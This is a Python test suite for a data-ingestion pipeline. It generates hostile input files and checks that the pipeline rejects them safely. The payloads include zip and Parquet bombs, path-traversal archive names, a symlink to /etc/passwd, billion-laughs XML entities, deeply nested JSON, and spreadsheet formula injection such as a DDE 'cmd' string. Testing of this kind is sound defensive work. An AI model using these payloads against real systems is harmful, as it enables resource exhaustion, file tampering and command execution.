"""Files made to harm whoever opens them: each ends in a named state within the limits, and harms nobody else.

They are dropped where an honest export was, pulled through the public door, and must leave what was pulled
before as it was. Nothing here is harmful to look at; some of it unpacks to gigabytes.
"""

import io
import os
import struct
import time
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import polars as pl
import psutil
import pytest

from ingestion.lake import lake_path
from ingestion.programme.load import load_programme
from ingestion.pull import pull_programme, pull_source

SOURCE, OTHER = "endline_site_a", "endline_site_b"
SECONDS, MEGABYTES = 20, 600
HEAD = ["id", "child", "site", "when", "reads", "score", "age"]
ROW = ["A0000-e", "A0000", "site_a", "2025-11-05T09:00:00", "1", "20", "8"]
ENTITIES = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
LAUGHS = f'<!DOCTYPE x [<!ENTITY l0 "ha">{ENTITIES}]>'


def _zip(**members: bytes) -> bytes:
    return _zipped(members.items())


def _zipped(members) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return out.getvalue()


def _csv(*rows: list[str]) -> bytes:
    return "".join(",".join(row) + "\n" for row in (HEAD, *(rows or [ROW]))).encode()


def _workbook(**cells: object) -> bytes:
    book = openpyxl.Workbook()
    book.active.append(HEAD)
    book.active.append(ROW)
    for place, value in cells.items():
        book.active[place] = value
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _part_replaced(book: bytes, part: str, change: Callable[[bytes], bytes]) -> bytes:
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        assert part in archive.namelist()
        return _zipped(
            (name, change(archive.read(name)) if name == part else archive.read(name))
            for name in archive.namelist()
        )


def _with_entities(part: bytes) -> bytes:
    head, _, body = part.rpartition(b"?>")
    return (head + b"?>" if head else b"") + LAUGHS.encode() + body.replace(b"A0000-e", b"&l11;")


def _understated(archive: bytes, size: int) -> bytes:
    """An archive whose directory and local headers declare a small size for a large member."""
    changed = bytearray(archive)
    for signature, offset in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        place = changed.find(signature)
        while place >= 0:
            struct.pack_into("<I", changed, place + offset, size)
            place = changed.find(signature, place + 1)
    return bytes(changed)


def _link(name: str, target: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        entry = zipfile.ZipInfo(name)
        entry.external_attr = 0o120777 << 16
        archive.writestr(entry, target)
    return out.getvalue()


def _table(**columns: pl.Series) -> pl.DataFrame:
    return pl.DataFrame(dict(zip(HEAD, ([cell] for cell in ROW), strict=True)) | columns)


def _parquet(frame: pl.DataFrame, **options: object) -> bytes:
    out = io.BytesIO()
    frame.write_parquet(out, **options)
    return out.getvalue()


def _spoilt(content: bytes) -> bytes:
    middle = len(content) // 2
    return content[: middle - 40] + os.urandom(80) + content[middle + 40 :]


def _parquet_bomb() -> bytes:
    """Ten million times the same row in few kilobytes."""
    count = 10_000_000
    frame = pl.DataFrame({name: [cell] for name, cell in zip(HEAD, ROW, strict=True)})
    return _parquet(frame.select(pl.all().repeat_by(count).explode()), compression="zstd")


def _statistics(kind: str) -> Callable[[], bytes]:
    def content() -> bytes:
        import pandas as pd
        import pyreadstat

        path = Path(os.environ["PYTEST_TMP"]) / f"plain.{kind}"
        frame = pd.DataFrame([ROW] * 500, columns=HEAD)
        write = {"sav": pyreadstat.write_sav, "dta": pyreadstat.write_dta}[kind]
        write(frame, str(path))
        data = path.read_bytes()
        place = 200 if kind == "sav" else len(data) // 4
        return data[:place] + os.urandom(400) + data[place + 400 :]

    return content


CASES: dict[str, tuple[str, str, Callable[[], bytes]]] = {
    "a zip bomb": ("csv", "a.zip", lambda: _zip(**{"a.csv": bytes(80 << 20)})),
    "a zip bomb in a zip": ("csv", "a.zip", lambda: _zip(**{"b.zip": _zip(**{"a.csv": bytes(80 << 20)})})),
    "a zip with a declared size that is small": (
        "csv",
        "a.zip",
        lambda: _understated(_zip(**{"a.csv": _csv() + b"x" * (300 << 20)}), 100),
    ),
    "a zip with too many members": (
        "csv",
        "a.zip",
        lambda: _zipped((f"{number}.csv", b"") for number in range(30_000)),
    ),
    "a path out of the folder": ("csv", "a.zip", lambda: _zip(**{"../../evil.csv": _csv()})),
    "an absolute path": ("csv", "a.zip", lambda: _zip(**{"/tmp/evil.csv": _csv()})),
    "a path of another system": ("csv", "a.zip", lambda: _zip(**{"..\\..\\evil.csv": _csv()})),
    "a link": ("csv", "a.zip", lambda: _link("a.csv", "/etc/passwd")),
    "entities in a sheet": (
        "excel",
        "a.xlsx",
        lambda: _part_replaced(_workbook(), "xl/worksheets/sheet1.xml", _with_entities),
    ),
    "entities in the list of sheets": (
        "excel",
        "a.xlsx",
        lambda: _part_replaced(_workbook(), "xl/workbook.xml", _with_entities),
    ),
    "a cell in the last corner of the sheet": ("excel", "a.xlsx", lambda: _workbook(XFD1048576="far")),
    "a sheet that unpacks to gigabytes": (
        "excel",
        "a.xlsx",
        lambda: _part_replaced(_workbook(), "xl/worksheets/sheet1.xml", lambda part: part + bytes(300 << 20)),
    ),
    "a workbook named as CSV": ("csv", "a.csv", _workbook),
    "a CSV named as a workbook": ("excel", "a.xlsx", _csv),
    "a CSV named as Stata's": ("stata", "a.dta", _csv),
    "a CSV named as SPSS's": ("spss", "a.sav", _csv),
    "a CSV named as Parquet": ("parquet", "a.parquet", _csv),
    "a program named as CSV": ("csv", "a.csv", lambda: b"\x7fELF\x02\x01\x01" + os.urandom(5000)),
    "a cell of 200 MB": ("csv", "a.csv", lambda: _csv([*ROW[:6], '"' + "x" * (200 << 20) + '"'])),
    "a line of 200 MB without a header": ("csv", "a.csv", lambda: b"x" * (200 << 20)),
    "200 MB of open quotes": ("csv", "a.csv", lambda: _csv() + b'"' * ((200 << 20) + 1)),
    "a million columns": (
        "csv",
        "a.csv",
        lambda: (
            ",".join([*HEAD, *(f"c{number}" for number in range(1_000_000))])
            + "\n"
            + ",".join([*ROW, *["1"] * 1_000_000])
            + "\n"
        ).encode(),
    ),
    "lists in lists": (
        "json_lines",
        "a.jsonl",
        lambda: b'{"id": ' + b"[" * 500_000 + b"]" * 500_000 + b"}\n",
    ),
    "objects in objects": (
        "json_lines",
        "a.jsonl",
        lambda: b'{"a":' * 500_000 + b"1" + b"}" * 500_000 + b"\n",
    ),
    "garbage amid Parquet": ("parquet", "a.parquet", lambda: _spoilt(_parquet(_table()))),
    "a Parquet bomb": ("parquet", "a.parquet", _parquet_bomb),
    "garbage amid SPSS": ("spss", "a.sav", _statistics("sav")),
    "garbage amid Stata": ("stata", "a.dta", _statistics("dta")),
}


@pytest.fixture
def hostile(small_programme, tmp_path, monkeypatch):
    """Replaces the honest export by a file of some platform; returns the loaded programme."""
    monkeypatch.setenv("SITEWISE_READ_SECONDS", str(SECONDS))
    monkeypatch.setenv("SITEWISE_READ_MEMORY_MB", str(MEGABYTES))
    monkeypatch.setenv("PYTEST_TMP", str(tmp_path))

    def drop(platform: str, name: str, content: bytes):
        folder = small_programme.folder / "exports/site_a"
        for path in folder.iterdir():
            path.unlink()
        (folder / name).write_bytes(content)
        entry = small_programme.without("sources.yml", "source", SOURCE)
        small_programme.add(
            "sources.yml", entry | {"platform": platform, "pull": {"drop": f"exports/site_a/{name}"}}
        )
        return load_programme(small_programme.folder)

    return drop


@pytest.mark.parametrize("case", CASES)
def test_a_hostile_file_ends_in_a_named_state_and_harms_nobody_else(
    case, hostile, small_programme, tmp_path
) -> None:
    home = tmp_path / "home"
    assert pull_source(load_programme(small_programme.folder), SOURCE, home).state == "landed"
    before = {path.name: path.read_bytes() for path in lake_path(home, SOURCE).iterdir()}
    platform, name, make = CASES[case]
    programme = hostile(platform, name, make())
    here = psutil.Process()
    idle, begun = here.memory_info().rss, time.monotonic()
    receipts = {each.source: each for each in pull_programme(programme, home, [SOURCE, OTHER])}
    assert time.monotonic() - begun < SECONDS + 15
    assert here.memory_info().rss - idle < 100 << 20, "the night's own process read the file"
    receipt = receipts[SOURCE]
    print(f"{case}: {receipt.state}: {receipt.message}")
    assert receipt.state in ("failed", "empty"), receipt
    assert "Remedy: " in receipt.message and "fault of Sitewise" not in receipt.message
    assert len(receipt.message) < 1000 and "xxxx" not in receipt.message
    assert {path.name: path.read_bytes() for path in lake_path(home, SOURCE).iterdir()} == before
    assert receipts[OTHER].state == "landed" and receipts[OTHER].rows_kept == 160
    assert not list(tmp_path.rglob("evil*")) and not Path("/tmp/evil.csv").exists()


def test_a_formula_is_text_and_nothing_more(hostile, tmp_path) -> None:
    evil = "=cmd|'/C calc'!A0"
    row = [*ROW[:6], evil]
    receipt = pull_source(hostile("csv", "a.csv", _csv(row)), SOURCE, tmp_path / "home")
    assert (receipt.state, receipt.rows_kept) == ("landed", 1), receipt.message
    table = pl.read_parquet(lake_path(tmp_path / "home", SOURCE) / "main.parquet")
    assert table["age"].to_list() == [evil]


def test_a_formula_in_a_workbook_is_not_evaluated(hostile, tmp_path) -> None:
    content = _workbook(G2='=HYPERLINK("http://127.0.0.1:9/"&A2)', F2="=1+1")
    receipt = pull_source(hostile("excel", "a.xlsx", content), SOURCE, tmp_path / "home")
    assert receipt.state in ("landed", "failed"), receipt.message
    if receipt.state == "landed":
        table = pl.read_parquet(lake_path(tmp_path / "home", SOURCE) / "main.parquet")
        assert "2" not in table["score"].to_list()
